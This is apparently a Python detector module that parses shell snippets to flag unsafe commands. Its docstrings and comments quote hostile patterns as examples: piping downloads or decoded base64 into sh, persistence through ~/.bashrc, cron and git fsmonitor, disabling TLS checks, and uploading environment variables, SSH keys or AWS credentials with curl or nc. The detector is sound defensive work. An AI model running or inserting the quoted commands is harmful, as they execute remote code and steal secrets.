"""Unsafe shell commands, found by parsing the shell with tree-sitter-bash rather than by regex alone.

``find_unsafe(text)`` returns :class:`ShellFinding` objects (rule, 0-based offset of the snippet, message,
confidence) for commands in fenced shell blocks, inline code and command-like lines of ``text``:

* ``pipe-to-shell``: network content reaching an interpreter through a pipe (``curl … | tee f | sh``,
  ``| sudo -E /bin/sh``), a file (``curl … -o /tmp/i.sh && sh /tmp/i.sh``, ``curl … >i; bash i``) or a
  substitution (``eval "$(curl …)"``, ``source <(curl …)``); decoded data fed to an interpreter
  (``echo … | base64 -d | sh``); and any of these stored to run later (``echo '…' >> ~/.bashrc``, a
  crontab line, ``PROMPT_COMMAND``, an alias, ``git config core.fsmonitor``: see
  :mod:`~skillforge.safety.shell_persist`);
* ``tls-disabled``: ``git config http.sslVerify false``, ``GIT_SSL_NO_VERIFY``, ``npm … strict-ssl false``,
  ``NODE_TLS_REJECT_UNAUTHORIZED=0`` (``curl -k``, ``wget --no-check-certificate``: low confidence);
* ``untrusted-index``: ``pip install --trusted-host``, an index or registry over plain http, another
  https index (low confidence unless --trusted-host);
* ``credential-upload``: the environment or a credential file sent to a URL (``env | curl -d @-``,
  ``curl -F f=@~/.ssh/id_rsa``, ``curl -d "k=$API_TOKEN" http://host``).

What a command is (a download, an interpreter …) is decided in :mod:`~skillforge.safety.shell_rules`, the
package-source and TLS rules are in :mod:`~skillforge.safety.shell_packages`, the credential rules in
:mod:`~skillforge.safety.shell_uploads`. The parser is tolerant: a snippet that does not parse still yields
its commands. Nothing here runs code.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator
from dataclasses import dataclass
from itertools import chain
from typing import Any

from skillforge.safety.prefilter import contains_any, lowered
from skillforge.safety.shell_interpreters import (
    INTERPRETERS,
    SHELLS,
    base,
    is_interpreter,
    program,
    runs_stdin,
    script,
)
from skillforge.safety.shell_packages import (
    env_setting,
    go_env,
    insecure_code,
    plain_http_install,
    tls_off,
    unsigned_package,
    untrusted_index,
)
from skillforge.safety.shell_persist import (
    Stored,
    assigned,
    defined,
    heredoc_target,
    piped_into,
    printed,
    startup_file,
    written,
)
from skillforge.safety.shell_rules import (
    download_targets,
    fetches_and_evaluates,
    host_of,
    inline_code,
    is_decoder,
    is_downloader,
)
from skillforge.safety.shell_scope import CommandIndex, Scope, scope_of
from skillforge.safety.shell_tree import (
    inner_pipeline,
    node_text,
    raw_words,
    stages,
    unquoted,
    walk,
    words,
)
from skillforge.safety.shell_uploads import (
    copies_out,
    credential_upload,
    dumped_upload,
    dumps_secrets,
    environment_in_code,
    sensitive,
    uploads,
)
from skillforge.safety.shell_wrappers import unwrap
from skillforge.safety.snippets import SNIPPET_KEYS, snippets
from skillforge.text import parse


@dataclass(frozen=True, slots=True)
class ShellFinding:
    rule: str  # pipe-to-shell | tls-disabled | untrusted-index | credential-upload
    offset: int  # where the snippet starts in the text
    message: str
    confidence: str  # "high" | "low"
    hosts: tuple[str, ...] = ()  # hosts of the downloads (a low-confidence https install is only low
    # when the caller trusts every one of them)


_URL = re.compile(r"https?://[^\s\"'|;)]+")


def find_unsafe(text: str) -> list[ShellFinding]:
    """Unsafe commands anywhere in ``text``, at the offset of the command that does it."""
    low = lowered(text)
    if not contains_any(low, SNIPPET_KEYS):
        return []
    found: list[ShellFinding] = []
    files: Files = {}  # files a download or a decoder wrote, across the text's snippets
    for offset, snippet in snippets(text):
        files.pop(EXTRACTED, None)  # an archive's programs are run in its own snippet (see _extracts)
        data = snippet.encode("utf-8", "replace")
        named: dict[int, tuple[str, ...]] = {}  # a node's hosts, once (one command can hold many findings)
        for rule, message, conf, node, used in analyse(snippet, files):
            at = offset + len(data[: node.start_byte].decode("utf-8", "ignore"))
            if not used and node.start_byte not in named:
                named[node.start_byte] = tuple(host_of(u).lower() for u in _URL.findall(node_text(node)))
            found.append(ShellFinding(rule, at, message, conf, used or named[node.start_byte]))
    return found


Files = dict[str, tuple[bool, tuple[str, ...]]]  # name -> (over plain http, download hosts); a key
# "/name" (no base name holds "/") is a file the environment or a credential was written to (env > name)
EXTRACTED = "./"  # the key of a download unpacked by tar in this snippet (its files are unnamed)


def analyse(snippet: str, files: Files) -> Iterator[tuple[str, str, str, Any, tuple[str, ...]]]:
    """(rule, message, confidence, node, download hosts) for every unsafe construct of one snippet."""
    root = parse("bash", snippet)
    index = CommandIndex(root, walk, words)
    for node in walk(root):
        kind = node.type
        found: Iterator[tuple[str, str, str]] = iter(())
        if kind == "pipeline" and not inner_pipeline(node):
            found = _pipeline(node, files)
        elif kind == "declaration_command":  # export X=0
            found = tls_off(["export", *node_text(node).split()[1:]])
        elif kind == "variable_assignment":  # PROMPT_COMMAND='curl … | sh'
            prompt = assigned(node_text(node))
            found = _stored([prompt] if prompt else [], files)
        elif kind == "command":
            ws = index.words_of(node)
            ran = _runs_file(ws, files)
            if ran is not None:
                yield (*ran, node, files[_ran_name(ws, files)][1])
            elif EXTRACTED in files and _runs_local_program(ws):
                plain, hosts = files[EXTRACTED]
                message = f"{ws[0]} runs a program from an archive just downloaded"
                yield "pipe-to-shell", message, "high" if plain else "low", node, hosts
            found = chain(
                _command(node, ws, files), _redirects(node, files, index), _stored(defined(ws), files)
            )
        elif kind == "redirected_statement":
            found = chain(
                _redirects(node, files, index), _heredoc(node, files), _fed(node), _written(node, files)
            )
        for rule, message, conf in found:
            yield rule, message, conf, node, ()


def _pipeline(node: Any, files: Files) -> Iterator[tuple[str, str, str]]:
    commands = [words(c) for c in stages(node)]
    yield from _stored(piped_into(commands), files)
    _extracts(commands, files)
    for i, ws in enumerate(commands):
        if not is_interpreter(ws) or not runs_stdin(ws):
            continue
        before = commands[:i]
        if any(is_downloader(w) for w in before):
            yield "pipe-to-shell", f"pipes a download into {program(ws[0])}", _pipe_confidence(node, before)
        elif any(is_decoder(w) for w in before):
            yield "pipe-to-shell", f"feeds decoded data into {program(ws[0])}", "high"
        elif any(w and w[0].startswith(("$", "`")) for w in before):  # $(echo Y3VybA== | base64 -d) URL
            yield (
                "pipe-to-shell",
                f"pipes a command whose name is computed at run time into {program(ws[0])}",
                "high",
            )
    yield from uploads(commands)


def _extracts(commands: list[list[str]], files: Files) -> None:
    """``curl … | tar xz``: a download unpacked; a program of the archive run later in the snippet
    (``&& ./kestrel/install``, ``./configure``) runs the download, as ``curl … | sh`` does."""
    for i, ws in enumerate(commands[1:], 1):
        if ws and base(ws[0]) in ("tar", "bsdtar") and _tar_extracts(ws):
            urls = [w for c in commands[:i] if is_downloader(c) for w in c[1:] if "://" in w]
            if urls:
                plain = any(u.startswith("http://") for u in urls)
                files[EXTRACTED] = (plain, tuple(host_of(u).lower() for u in urls))
                return


def _tar_extracts(ws: list[str]) -> bool:
    first = ws[1] if len(ws) > 1 else ""
    bundled = not first.startswith("-") and "x" in first  # tar xz, tar xzf -
    return bundled or "--extract" in ws or any(w[:2] != "--" and w[:1] == "-" and "x" in w for w in ws[1:])


_SYSTEM_BINS = ("/usr/", "/bin/", "/sbin/", "/opt/homebrew/", "/etc/")


def _runs_local_program(ws: list[str]) -> bool:
    """A command run by a path (``./configure``, ``kestrel/install``), not a system program's."""
    return "/" in ws[0] and "://" not in ws[0] and not ws[0].startswith(_SYSTEM_BINS) and "$" not in ws[0]


def _pipe_confidence(node: Any, before: list[list[str]]) -> str:
    """A download run by an interpreter: low when every URL is https (a vendor's installer) and nothing
    hides it (``tee``, ``sudo -E``, a decoder between them), nor fetches it with TLS verification off
    (``curl -k``: anyone on the path can serve the script), else high."""
    evasive = (
        any(w and base(w[0]) == "tee" for w in before)
        or bool(re.search(r"\bsudo\s+(?:-\w*E|--preserve-env)", node_text(node)))
        or any(next(tls_off(w), None) for w in before if is_downloader(w))  # curl -k … | sh
        or any(is_decoder(w) for w in before)  # curl … | rev | sh, | base64 -d | sh
    )
    return "low" if _official_install(before) and not evasive else "high"


def _fed(node: Any) -> Iterator[tuple[str, str, str]]:
    """``bash < <(curl …)`` (RVM's idiom), ``python3 < <(wget -qO- …)``: a download or decoded data fed
    to an interpreter's stdin through a redirect from a process substitution, as a pipe would."""
    body = node.child_by_field_name("body")
    ws = words(body) if body is not None and body.type == "command" else []
    if not is_interpreter(ws) or not runs_stdin(ws):
        return
    for redirect in node.children:
        if redirect.type != "file_redirect" or not any(c.type == "<" for c in redirect.children):
            continue
        subs = [c for c in redirect.children if c.type == "process_substitution"]
        inner = [words(c) for s in subs for c in walk(s) if c.type == "command"]
        if any(is_downloader(w) for w in inner):
            yield "pipe-to-shell", f"feeds a download to {program(ws[0])}", _pipe_confidence(node, inner)
        elif any(is_decoder(w) for w in inner):
            yield "pipe-to-shell", f"feeds decoded data to {program(ws[0])}", "high"


def _official_install(commands: list[list[str]]) -> bool:
    """Every download is over https (an installer served by its vendor): shown, but low confidence."""
    urls = [w for ws in commands if is_downloader(ws) for w in ws[1:] if "://" in w]
    return (
        bool(urls)
        and all(u.startswith("https://") for u in urls)
        and not any(w == "-E" or w == "--preserve-env" for ws in commands for w in ws)
    )


def _ran_name(ws: list[str], files: Files) -> str:
    if "/" in ws[0] and base(ws[0]) in files:  # ./i.sh, /tmp/i.sh (but /usr/bin/bash i.sh runs i.sh)
        return base(ws[0])
    return script(ws)


def _runs_file(ws: list[str], files: Files) -> tuple[str, str, str] | None:
    """An interpreter (or ``./x``) running a file a download wrote, in this snippet or an earlier one
    of the text: high when it was fetched over plain http (or from no URL: a decode), else low (a
    vendor's https installer, downloaded then run, as ``curl https://… | sh`` is)."""
    if not ws or not files:
        return None
    name = base(ws[0])
    if "/" in ws[0] and name in files and not name.endswith((".md", ".txt", ".json", ".html")):
        target = name
    elif program(name) in INTERPRETERS and script(ws) in files:
        target = script(ws)
    else:
        return None
    plain, _ = files[target]
    conf = "high" if plain else "low"  # over https: as a pipe from a vendor (see injection._shell_confidence)
    return "pipe-to-shell", f"{name} runs {target}, which was just downloaded", conf


def _command(node: Any, ws: list[str], files: Files) -> Iterator[tuple[str, str, str]]:
    if not ws:
        yield from _env_assignments(node)
        return
    name = program(ws[0])
    yield from _env_assignments(node)
    if name in INTERPRETERS:
        for sub in walk(node):
            if sub.type in ("command_substitution", "process_substitution") and sub is not node:
                inner = [words(c) for c in walk(sub) if c.type == "command"]
                if any(is_downloader(w) for w in inner):
                    yield "pipe-to-shell", f"{name} runs a download through a substitution", "high"
                elif any(is_decoder(w) for w in inner):
                    yield "pipe-to-shell", f"{name} runs decoded data through a substitution", "high"
    yield from _inner_script(ws, files)
    if name in ("tar", "bsdtar") and _tar_extracts(ws):  # curl -o k.tgz …; tar xzf k.tgz
        fetched = [files[base(w)] for w in ws[1:] if base(w) in files]
        if fetched:
            files[EXTRACTED] = fetched[0]
    if is_downloader(ws):
        urls = [w for w in ws[1:] if "://" in w]
        entry = (
            any(u.startswith("http://") for u in urls),
            tuple(host_of(u).lower() for u in urls),
        )
        files.update(dict.fromkeys(download_targets(ws), entry))
    yield from credential_upload(ws)
    yield from dumped_upload(ws, {k[1:] for k in files if k.startswith("/")} if files else set())
    yield from fetches_and_evaluates(ws)
    yield from environment_in_code(ws)
    yield from tls_off(ws)
    yield from insecure_code(ws, inline_code(ws))
    yield from untrusted_index(ws)
    yield from plain_http_install(ws)
    yield from unsigned_package(ws)
    yield from go_env(ws)
    yield from copies_out(ws)


_STDIN_CODE = frozenset({"python", "node", "perl", "ruby", "php", "deno", "bun"})  # program() names


def _heredoc(node: Any, files: Files) -> Iterator[tuple[str, str, str]]:
    """A here-document fed to a shell is a script (``bash <<EOF … EOF``), and one fed to another
    interpreter is its code (``python3 - <<EOF``): both are checked as such."""
    body = next((c for c in node.children if c.type == "command"), None)
    ws = words(body) if body is not None else []
    if not ws:
        return
    name = program(ws[0])
    reads_stdin = runs_stdin(ws)
    for doc in (d for c in node.children if c.type == "heredoc_redirect" for d in c.children):
        if doc.type != "heredoc_body" or not reads_stdin:
            continue
        if name in _SHELLS:
            for rule, message, conf, _, _ in analyse(node_text(doc), files):
                yield rule, message, conf
            subs = [s for s in walk(doc) if s.type == "command_substitution"]  # expanded: <<EOF, not <<'EOF'
            if any(is_downloader(words(c)) for s in subs for c in walk(s) if c.type == "command"):
                yield "pipe-to-shell", f"{name} runs a download expanded into its here-document", "high"
        elif program(name) in _STDIN_CODE:
            yield from fetches_and_evaluates([name, "-c", node_text(doc)])


_SHELLS = SHELLS | {"su"}


def _inner_script(ws: list[str], files: Files) -> Iterator[tuple[str, str, str]]:
    """``sh -c "curl … | sh"``: the script a shell runs from a string is checked as a script (each
    level strips one layer of quotes, so nesting ends)."""
    if program(ws[0]) not in _SHELLS:
        return
    for i, w in enumerate(ws[1:-1], 1):
        if w.startswith("-") and not w.startswith("--") and "c" in w:
            for rule, message, conf, _, _ in analyse(ws[i + 1], files):
                yield rule, message, conf
            return


def _redirects(node: Any, files: Files, index: CommandIndex) -> Iterator[tuple[str, str, str]]:
    """A statement's file redirects, wherever written: after (``nc h 1 < f``, a redirected statement:
    about every command of its body) or before a command's name (``< f nc h 1``: about that command's
    own words; commands nested in its arguments are visited on their own)."""
    redirects = [child for child in node.children if child.type == "file_redirect"]
    if not redirects:
        return iter(())
    if node.type == "command":
        scope = scope_of([index.words_of(node)])
        dumps = dumps_secrets(index.words_of(node))
    else:
        body = node.child_by_field_name("body") or node.children[0]
        scope = index.scope(body)
        dumps = body.type == "command" and dumps_secrets(index.words_of(body))
    _redirect_writes(redirects, files, scope)
    if dumps:  # env > /tmp/e: a later upload of /tmp/e sends the environment
        for child in redirects:
            if any(c.type in _WRITES for c in child.children):
                files["/" + base(node_text(child.children[-1]).strip("\"'"))] = (False, ())
    return _redirect_upload(redirects, scope)


_WRITES = frozenset({">", ">>", "&>", "&>>", ">|"})


def _redirect_writes(redirects: list[Any], files: Files, scope: Scope) -> None:
    """A download's or decode's output written to a file (``curl u > f``): ``f`` is a fetched file."""
    if scope.fetches:
        entry = (scope.plain, scope.hosts)
        for child in redirects:
            if any(c.type in _WRITES for c in child.children):  # > f, >> f, &> f (not < f)
                files[base(node_text(child.children[-1]).strip("\"'"))] = entry


def _redirect_upload(redirects: list[Any], scope: Scope) -> Iterator[tuple[str, str, str]]:
    """``nc host 443 < ~/.aws/credentials``: a credential file fed to a network command."""
    for child in redirects:
        text = node_text(child).strip()
        if scope.network and text.startswith("<") and sensitive(text):
            yield (
                "credential-upload",
                f"feeds a credential file to the network ({base(scope.network[0])})",
                "high",
            )


def _stored(commands: Iterable[Stored], files: Files) -> Iterator[tuple[str, str, str]]:
    """Commands stored to run later (in ~/.bashrc, a crontab, an alias, a git hook setting: see
    :mod:`~skillforge.safety.shell_persist`), each checked as a snippet of its own: unsafe as running it
    would be (each level strips a layer of quotes or a line's prefix, so nesting ends). A download run
    by a shell is high confidence there even from a vendor's https URL: it is fetched again at every
    run, never read by the user who reviewed it once."""
    for where, command in commands:
        for rule, message, conf, _, _ in analyse(command, dict(files)):
            conf = "high" if rule == "pipe-to-shell" else conf
            yield rule, f"{message}, stored in {where} to run later", conf


def _written(node: Any, files: Files) -> Iterator[tuple[str, str, str]]:
    """``echo '…' >> ~/.bashrc``, ``printf '…' > /etc/cron.d/x``, ``cat >> ~/.zshrc <<EOF``: what a
    statement writes to a file a shell or cron runs."""
    body = node.child_by_field_name("body")
    ws = words(body) if body is not None and body.type == "command" else []
    targets = [
        node_text(c.children[-1])
        for c in node.children
        if c.type == "file_redirect" and any(op.type in _WRITES for op in c.children)
    ]
    text = printed(ws)
    kinds = [(kind, t) for t in targets for kind in (startup_file(t),) if kind]
    if text is not None and kinds:
        yield from _stored(written(text, *kinds[0]), files)
    target = heredoc_target(ws, targets)
    if target is not None:
        docs = [d for c in node.children if c.type == "heredoc_redirect" for d in c.children]
        for doc in (d for d in docs if d.type == "heredoc_body"):
            yield from _stored(written(node_text(doc), *target), files)


def _env_assignments(node: Any) -> Iterator[tuple[str, str, str]]:
    """``X=… cmd``, and the settings a wrapper gives (``env X=… cmd``, ``sudo X=… cmd``)."""
    for child in node.children:
        if child.type == "variable_assignment":
            yield from env_setting(node_text(child))
    for setting in unwrap([unquoted(word) for word in raw_words(node)])[1]:
        yield from env_setting(setting)
